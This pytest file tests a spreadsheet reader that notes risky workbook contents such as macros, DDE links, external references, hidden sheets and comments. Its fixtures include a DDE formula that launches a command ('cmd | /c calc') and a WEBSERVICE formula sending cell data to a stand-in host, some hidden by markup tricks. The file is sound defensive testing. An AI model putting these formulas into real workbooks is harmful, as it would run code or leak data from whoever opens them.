"""What a book carries besides values is noted with its place and its words, and nothing of it is run or followed."""

from __future__ import annotations

import re

import pytest
from books_for_reading import MAIN, ods, plain_book, with_parts, with_rows
from odd_parts import carrying_book, relations

from samverkan_xl.model.cells import Remark, Trait
from samverkan_xl.reading import limits
from samverkan_xl.reading.book import UnreadableCode


def told(remarks, *traits):
    return [(one.sheet, one.cell, one.text) for one in remarks if one.trait in traits]


@pytest.fixture
def carried(read):
    return read(carrying_book()).remarks


@pytest.mark.parametrize(
    ("trait", "expected"),
    [
        (Trait.MACROS, [("", "", "")]),
        (Trait.EXTERNAL_LINK, [("", "", "file:///C:/annan.xlsx")]),
        (Trait.DDE, [("", "", "cmd | /c calc")]),
        (Trait.EMBEDDED, [("", "", "oleObject1.bin")]),
        (Trait.CONTROL, [("", "", "CheckBox")]),
        (Trait.SENSITIVITY_LABEL, [("", "", "{1}")]),
        (Trait.HIDDEN_SHEET, [("Dold", "", "")]),
        (Trait.VERY_HIDDEN_SHEET, [("Djupt", "", "")]),
        (Trait.HIDDEN_ROWS, [("Ett", "8:9", ""), ("Ett", "11:11", ""), ("Två", "3:3", "")]),
        (Trait.HIDDEN_COLUMNS, [("Ett", "E:G", "")]),
        (Trait.FILTERED, [("Två", "", "")]),
        (Trait.MERGED, [("Ett", "B5:C6", "")]),
        (Trait.COMMENT, [("Ett", "B2", "Ring 08-123"), ("", "C3", "I en tråd")]),
        (Trait.HEADER, [("Ett", "", "&LKommun"), ("Ett", "", "&RSida &P")]),
        (Trait.DRAWN_TEXT, [("Ett", "", "Text i ruta")]),
        (Trait.DEFINED_NAME, [("", "", 'Hemligt: "Ett namn"')]),
    ],
)
def test_each_thing_that_a_book_carries_is_noted_where_it_is(carried, trait, expected):
    assert told(carried, trait) == expected


def test_properties_are_noted_with_their_swedish_titles(carried):
    texts = {text for _, _, text in told(carried, Trait.PROPERTY)}
    assert texts == {
        *("Titel: Kommunbok", "Författare: Bo", "Senast sparad av: Bo", "Chef: Chefen", "Företag: Kommunen"),
        "Handläggare: Eva",
    }


def test_a_plain_book_carries_nothing(read):
    assert {one.trait for one in read(plain_book()).remarks} <= {Trait.PROPERTY}
    assert told(read(plain_book()).remarks, Trait.PROPERTY) == []


@pytest.mark.parametrize(
    ("formula", "cell"),
    [
        ("<f>[1]Blad!A1</f>", "B2"),
        ("<f>SUM('[12]Mitt blad'!A1:A9)</f>", "B2"),
        ("<f>[1]!Namn</f>", "B2"),
        ('<f t="shared" si="0" ref="B2:B9">[1]Blad!A1</f>', "B2:B9"),
        ('<f>_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;A1)</f>', "B2"),
        ("<f>WEBSERVICE (A1)</f>", "B2"),
        ('<f>_xlfn.FILTERXML(A1,"//a")</f>', "B2"),
        ('<f>1+_xlfn._xlws.STOCKHISTORY("MSFT",A1)</f>', "B2"),
        ('<f>RTD("prog.id",,"x")</f>', "B2"),
        ('<f>rtd("prog.id",,"x")</f>', "B2"),
        ('<f>CUBEVALUE("Modell",A1)</f>', "B2"),
        ('<f>CUBERANKEDMEMBER("Modell",A1,1)</f>', "B2"),
        ("<f>_xlfn._xlws.PY(0,1)</f>", "B2"),
        ('<f>DDE("soffice";"fil";"A1")</f>', "B2"),
        ('<f>IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"",""A1"")"),7)</f>', "B2"),
        ('<f>IFERROR(__xludf.DUMMYFUNCTION("GOOGLEFINANCE(""x"")"),7)</f>', "B2"),
        ('<f t="array" ref="B2:C4">_xlfn.WEBSERVICE(A1)</f>', "B2:C4"),
        ("<f>MYRTD(A1)+COPY(A1)+SUM(RTDS)</f>", None),
        ('<f>IF(A1="IMPORTERAT","x",CUBE)</f>', None),
        ("<f>A1+1</f>", None),
        ("<f>Tabell1[Svar]</f>", None),
        ('<f>SUM(Tabell1[1])&amp;"!"</f>', None),
    ],
)
def test_a_value_out_of_another_book_is_marked_as_such(read, formula, cell):
    rows = f'<row r="2"><c r="B2">{formula}<v>7</v></c></row>'
    for found in (read(with_rows(rows)), read(with_rows(re.sub("<(/?)(?=[a-z])", r"<\1x:", rows), "x"))):
        assert found.sheets[0].value(2, 2) == 7
        assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ([cell] if cell else [])


BEFORE, AFTER = (
    '<worksheet xmlns="{}"{}>{}<cols><col min="4" max="4" hidden="1"/></cols><sheetData>',
    ('</sheetData><mergeCells count="1"><mergeCell ref="B5:C6"/></mergeCells>{}</worksheet>'),
)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("", ""),
        ("<!-- sheetData -->", "<!-- sheetData -->"),
        ("<?sheetData ?>", "<?x <sheetData> ?>"),
        ("<!-- <? -->", "<!-- ?> -->"),
        ("<?x <!-- ?>", "<?x --> ?>"),
        ("<!--<x:sheetData>-->", "<!--</x:sheetData>-->"),
        ('<sheetPr codeName="sheetData"/>', '<legacyDrawing name="sheetData"/>'),
    ],
)
@pytest.mark.parametrize(
    "formula",
    [
        "<f>WEBSERVICE(A1)</f>", "<f>WEBSERVI&#67;E(A1)</f>", "<f>WEBSERVICE&#x28;A1)</f>",
        "<f>WEBSER<!-- -->VICE(A1)</f>", "<?a b?><f>WEBSERVICE(A1)</f>", "<f>WEBSER<?a b?>VICE(A1)</f>",
        "<f><![CDATA[WEBSERVICE(A1)]]></f>", "<x:f>WEBSERVICE(A1)</x:f>",
        "<f>[1]Blad!A1</f>", "<f>&#91;1]Blad!A1</f>", "<f>[<!-- -->1]Blad!A1</f>",
    ],
)  # fmt: skip
def test_nothing_in_a_sheets_markup_hides_what_it_carries(read, formula, before, after):
    """Words in comments and attributes, and signs written by number, mean to us what they mean to a parser."""
    cells = f'<row r="2"><c r="B2" x="a>b">{formula}<v>7</v></c></row>'
    sheet = BEFORE.format(MAIN, f' xmlns:x="{MAIN}"', before) + cells + AFTER.format(after)
    found = read(with_parts(plain_book(), {"xl/worksheets/sheet1.xml": sheet}))
    assert found.sheets[0].value(2, 2) == 7
    assert told(found.remarks, Trait.HIDDEN_COLUMNS, Trait.MERGED) == [("Blad", "D:D", ""), ("Blad", "B5:C6", "")]
    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ["B2"]


@pytest.mark.parametrize(
    "formula",
    [
        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
        "of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)",
        "of:=com.microsoft.filterxml([.A1])",
    ],
)
def test_a_value_from_outside_is_marked_in_an_opendocument_book_too(read, formula):
    cell = f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="7"/>'
    found = read(
        ods(f'<table:table table:name="Blad"><table:table-row>{cell}</table:table-row></table:table>'), "b.ods"
    )
    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ["A1"]


@pytest.mark.parametrize(
    "row",
    [
        '<row r="7" hidden="1"/>',
        "<row r='7' hidden='1'/>",
        '<row hidden = "true" r = "7"/>',
        '<row r="7" spans="1:3" ht="0" hidden="1" customHeight="1"><c r="A7"><v>1</v></c></row>',
    ],
)
def test_a_hidden_row_is_noted_however_it_is_written(read, row):
    assert told(read(with_rows(row)).remarks, Trait.HIDDEN_ROWS) == [("Blad", "7:7", "")]
    prefixed = row.replace("<row", "<x:row").replace("</row", "</x:row").replace("<c", "<x:c").replace("</c", "</x:c")
    prefixed = prefixed.replace("<v", "<x:v").replace("</v", "</x:v")
    assert told(read(with_rows(prefixed, "x")).remarks, Trait.HIDDEN_ROWS) == [("Blad", "7:7", "")]


def test_a_row_that_is_not_hidden_is_not_noted(read):
    rows = '<row r="7" hidden="0"/><row r="8"><c r="A8" t="str"><f>"hidden"</f><v>hidden="1"</v></c></row>'
    assert told(read(with_rows(rows)).remarks, Trait.HIDDEN_ROWS) == []


@pytest.mark.parametrize("written", ['date1904="1"', "date1904='true'"])
def test_the_other_calendar_is_noted(read, written):
    book = f'<workbook xmlns="{MAIN}" xmlns:r="urn:r"><workbookPr {written}/><sheets><sheet name="B" sheetId="1" r:id="rId1"/></sheets></workbook>'
    assert told(read(with_parts(plain_book(), {"xl/workbook.xml": book})).remarks, Trait.DATES_1904) == [("", "", "")]


def test_a_threaded_comment_says_which_sheet_it_is_on(read):
    parts = {
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "threadedComment", "../trad/t.xml")),
        "xl/trad/t.xml": '<x:ThreadedComments xmlns:x="urn:t"><x:threadedComment ref="b2"><x:text>Å &amp; ä</x:text></x:threadedComment></x:ThreadedComments>',
    }
    assert told(read(with_parts(plain_book(), parts)).remarks, Trait.COMMENT) == [("Blad", "B2", "Å & ä")]


def test_broken_lesser_parts_lose_no_values(read):
    parts = {
        "docProps/core.xml": "<a><b></a>",
        "xl/comments1.xml": "<comments><comment ref=",
        "xl/drawings/drawing1.xml": "<xdr:wsDr>",
    }
    assert read(with_parts(plain_book(), parts)).sheets[0].name == "Blad"


def test_a_label_in_the_properties_is_noted_once_by_its_name(read):
    own = "".join(
        f'<property name="MSIP_Label_1_{each}"><x>{each}!</x></property>' for each in ("Enabled", "Name", "SiteId")
    )
    found = read(with_parts(plain_book(), {"docProps/custom.xml": f"<Properties>{own}</Properties>"})).remarks
    assert [one for one in found if one.trait is not Trait.PROPERTY] == [Remark(Trait.SENSITIVITY_LABEL, text="Name!")]


def test_more_than_a_person_could_have_made_is_too_much(refused, monkeypatch):
    monkeypatch.setattr(limits, "MAX_REMARKS", 3)
    refused(with_rows("".join(f'<row r="{row}" hidden="1"/>' for row in range(1, 10, 2))), UnreadableCode.TOO_LARGE)


TABLE = (
    '<table:calculation-settings><table:null-date table:date-value="1904-01-01"/></table:calculation-settings>'
    '<table:table table:name="Blad"><office:forms><form:form><form:button form:id="c1"/></form:form></office:forms>'
    "<table:shapes><draw:frame><draw:text-box><text:p>I en ruta</text:p></draw:text-box></draw:frame></table:shapes>"
    '<table:table-column/><table:table-column table:number-columns-repeated="2" table:visibility="collapse"/>'
    '<table:table-row><table:table-cell table:number-columns-spanned="2" table:number-rows-spanned="2"/>'
    '<table:covered-table-cell/><table:table-cell office:value-type="float" office:value="1"'
    " table:formula=\"of:='file:///C:/annan.ods'#$Blad.A1\"/></table:table-row>"
    '<table:table-row table:number-rows-repeated="3" table:visibility="filter"><table:table-cell/></table:table-row>'
    '<table:table-row table:visibility="collapse"><table:table-cell/><table:table-cell><office:annotation>'
    "<text:p>Anm</text:p><text:p>mer</text:p></office:annotation><text:p>svar</text:p></table:table-cell></table:table-row></table:table>"
    '<table:named-expressions><table:named-expression table:name="N" table:expression="of:=&quot;text&quot;"/>'
    '<table:named-expression table:name="M" table:expression="of:=[.A1]"/></table:named-expressions>'
)
EXTRA = {
    "Basic/Standard/Modul1.xml": "<script/>",
    "Object 1/content.xml": "<o/>",
    "Object 2/content.xml": "<chart/>",
    "META-INF/manifest.xml": '<m><e media-type="application/vnd.oasis.opendocument.chart" full-path="Object 2/"/></m>',
    "styles.xml": '<s xmlns:style="urn:s"><style:header><p>Sidhuvud</p></style:header></s>',
    "meta.xml": '<m xmlns:dc="urn:d" xmlns:meta="urn:m"><dc:title>Titel</dc:title><meta:user-defined meta:name="Egen">1</meta:user-defined></m>',
}


@pytest.mark.parametrize(
    ("trait", "expected"),
    [
        (Trait.MACROS, [("", "", "")]),
        (Trait.EMBEDDED, [("", "", "Object 1")]),
        (Trait.DATES_1904, [("", "", "")]),
        (Trait.CONTROL, [("Blad", "", "button")]),
        (Trait.DRAWN_TEXT, [("Blad", "", "I en ruta")]),
        (Trait.HIDDEN_COLUMNS, [("Blad", "B:C", "")]),
        (Trait.HIDDEN_ROWS, [("Blad", "2:4", ""), ("Blad", "5:5", "")]),
        (Trait.FILTERED, [("Blad", "", "")]),
        (Trait.MERGED, [("Blad", "A1:B2", "")]),
        (Trait.COMMENT, [("Blad", "B5", "Anm\nmer")]),
        (Trait.EXTERNAL_VALUE, [("Blad", "C1", "of:='file:///C:/annan.ods'#$Blad.A1")]),
        (Trait.HEADER, [("", "", "Sidhuvud")]),
        (Trait.PROPERTY, [("", "", "Titel: Titel"), ("", "", "Egen: 1")]),
    ],
)
def test_an_opendocument_book_is_noted_alike(read, trait, expected):
    assert told(read(ods(TABLE, EXTRA), "bok.ods").remarks, trait) == expected


def test_a_name_for_text_is_noted_in_opendocument_too(read):
    found = told(read(ods(TABLE, EXTRA), "bok.ods").remarks, Trait.DEFINED_NAME)
    assert [text for _, _, text in found] == ['N: of:="text"']


def elsewhere(kind: str, name: str, data: bytes | str) -> dict[str, bytes | str]:
    """Lay a part where nobody looks, under a name that says nothing, and let the workbook refer to it."""
    lines = relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "styles", "styles.xml"), ("rIdX", kind, f"../{name}")
    )
    return {name: data, "xl/_rels/workbook.xml.rels": lines}


BOX = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>I en ruta</div></v:textbox></v:shape></xml>'
)
COMMENTS = f'<comments xmlns="{MAIN}"><commentList><comment ref="B2"><text><t>Ring</t></text></comment></commentList></comments>'


@pytest.mark.parametrize(
    ("kind", "data", "trait", "text"),
    [
        ("vbaProject", b"macro", Trait.MACROS, ""),
        ("oleObject", b"object", Trait.EMBEDDED, "a.dat"),
        ("package", b"PK\3\4", Trait.EMBEDDED, "a.dat"),
        ("comments", COMMENTS, Trait.COMMENT, "Ring"),
        ("comments", "<!-- <worksheet> -->" + COMMENTS, Trait.COMMENT, "Ring"),
        ("comments", f"<!-- {'x' * 3000} -->" + COMMENTS, Trait.COMMENT, "Ring"),
        ("vmlDrawing", BOX, Trait.DRAWN_TEXT, "I en ruta"),
    ],
)
@pytest.mark.parametrize("name", ["annat/a.dat", "a.dat"])
def test_a_part_is_known_by_what_it_is_and_what_refers_to_it_whatever_it_is_called(read, name, kind, data, trait, text):
    found = read(with_parts(plain_book(), elsewhere(kind, name, data)))
    assert [one.text for one in found.remarks if one.trait is trait] == [text]


@pytest.mark.parametrize("ref", ["A" + "9" * 5000, "\u212a5", "", "A0", "B2:C3", "Ä1"])
def test_a_comment_on_no_cell_is_noted_for_the_whole_sheet(read, ref):
    found = read(with_parts(plain_book(), {"xl/comments1.xml": COMMENTS.replace("B2", ref)}))
    assert told(found.remarks, Trait.COMMENT) == [("", "", "Ring")]
